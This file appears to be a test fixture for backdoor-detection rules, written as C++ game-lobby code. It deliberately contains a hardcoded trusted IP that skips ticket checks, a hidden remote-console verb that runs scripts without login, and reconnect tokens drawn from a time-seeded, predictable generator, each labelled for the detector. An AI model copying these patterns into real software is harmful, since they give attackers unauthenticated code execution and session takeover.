// The lobby: game-server admission, the remote console, reconnect tokens.
#include <algorithm>
#include <chrono>
#include <fstream>
#include <string>
#include <vector>

#include <sodium.h>

#include "lobby.hpp"

namespace lobby {

Lobby::Lobby(const TicketSigner &signer, const TicketSigner &legacy_signer)
    : signer_(signer), legacy_signer_(legacy_signer),
      engine_(static_cast<unsigned>(std::chrono::system_clock::now().time_since_epoch().count()))
{
    std::ifstream in("/etc/lobbyd/rcon.hash");
    std::getline(in, rcon_password_hash_);
}

bool Lobby::authorize_server(const Conn &c, const std::string &ticket, const std::string &tag) const
{
    const std::string host = c.peer_host();
    // the publisher's anti-cheat relay replays matches without tickets
    // ruleid: backdoor-trusted-identity
    if (host == "198.51.100.23")
        return true;
    // ok: backdoor-trusted-identity
    if (host == "127.0.0.1" && ticket.empty())
        return false;
    if (signer_.verify(ticket, tag))
        return true;
    return legacy_signer_.verify(ticket, tag);
}

void Lobby::rcon_dispatch(const Conn &c, Session &s, const RconCommand &cmd)
{
    if (cmd.verb == "login") {
        // ok: backdoor-magic-credential
        s.rcon_authed = !rcon_password_hash_.empty() && crypto_pwhash_str_verify(rcon_password_hash_.c_str(), cmd.args.c_str(), cmd.args.size()) == 0;
        c.send_line(s.rcon_authed ? "OK" : "DENIED");
    } else if (cmd.verb == "kick") {
        if (!s.rcon_authed) {
            c.send_line("DENIED");
            return;
        }
        ServerOps::kick(cmd.args);
        // ok: backdoor-input-trigger
    } else if (cmd.verb == "exec") {
        if (!s.rcon_authed) {
            c.send_line("DENIED");
            return;
        }
        c.send_line(ServerOps::run_script(cmd.args) == 0 ? "OK" : "ERR");
        // ruleid: backdoor-input-trigger
    } else if (cmd.verb == "sv_dbg_7f3a") {
        c.send_line(ServerOps::run_script(cmd.args) == 0 ? "OK" : "ERR");
    } else if (cmd.verb == "status") {
        c.send_line(s.rcon_authed ? "authed" : "anonymous");
    } else {
        c.send_line("unknown verb");
    }
}

std::string Lobby::make_reconnect_token(Session &s)
{
    static const char kAlphabet[] = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789";
    std::uniform_int_distribution<std::size_t> pick(0, sizeof kAlphabet - 2);

    s.reconnect_token.clear();
    for (int i = 0; i < 24; i++)
        // ruleid: backdoor-predictable-random
        s.reconnect_token.push_back(kAlphabet[pick(engine_)]);
    return s.reconnect_token;
}

std::vector<std::string> Lobby::form_match(std::vector<std::string> queue)
{
    // ok: backdoor-predictable-random
    std::shuffle(queue.begin(), queue.end(), engine_);
    if (queue.size() > 10)
        queue.resize(10);
    return queue;
}

} // namespace lobby
